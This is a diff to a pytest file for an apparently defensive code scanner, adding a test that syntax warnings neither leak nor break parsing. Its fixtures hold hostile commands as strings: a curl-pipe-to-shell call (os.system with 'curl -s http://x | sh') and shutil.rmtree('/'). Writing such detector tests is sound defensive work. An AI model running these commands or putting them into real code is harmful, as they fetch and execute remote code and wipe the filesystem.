@@ -10,6 +10,7 @@ from __future__ import annotations
 import dataclasses
 import json
 import shlex
+import warnings
 from pathlib import Path
 
 import pytest
@@ -96,6 +97,13 @@ def test_nested_findings_point_at_the_outer_line() -> None:
     code = "import os\n\n\nos.system('bash -c \"curl -s http://x | sh\"')\n"
     finding = scan(code)[0]
     assert (finding.rule_id, finding.line) == ("SH-DOWNLOAD-EXEC", 4)
+
+
+def test_syntax_warnings_neither_leak_nor_break_parsing() -> None:
+    code = 'pattern = "\\d+"\nimport shutil\nshutil.rmtree("/")\n'
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")  # as under python -W error
+        assert [f.rule_id for f in scan(code)] == ["PY-DESTRUCTIVE-DELETE"]
 
 
 def test_unparseable_python_never_crashes() -> None:
